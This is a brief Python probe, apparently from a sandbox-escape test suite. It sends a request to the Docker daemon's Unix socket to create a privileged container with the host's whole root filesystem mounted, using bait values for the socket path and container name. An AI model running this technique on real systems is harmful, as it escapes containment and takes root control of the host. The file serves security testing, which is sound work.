# /// attack
# tries = "Asks the container service, which runs as root, for a container with the whole disk in it."
# points = 0
# shows = ["network", "leak"]
# ///
# %% before count
import json
import socket

wish = json.dumps({"Image": "debian", "HostConfig": {"Binds": ["/:/host"], "Privileged": True}})
with socket.socket(socket.AF_UNIX) as line:
    line.connect(bait["docker"])
    line.sendall(f"POST /containers/create?name={bait['token']} HTTP/1.0\r\n\r\n{wish}".encode())
    print(line.recv(1000).decode())
    print(line.recv(1000).decode())
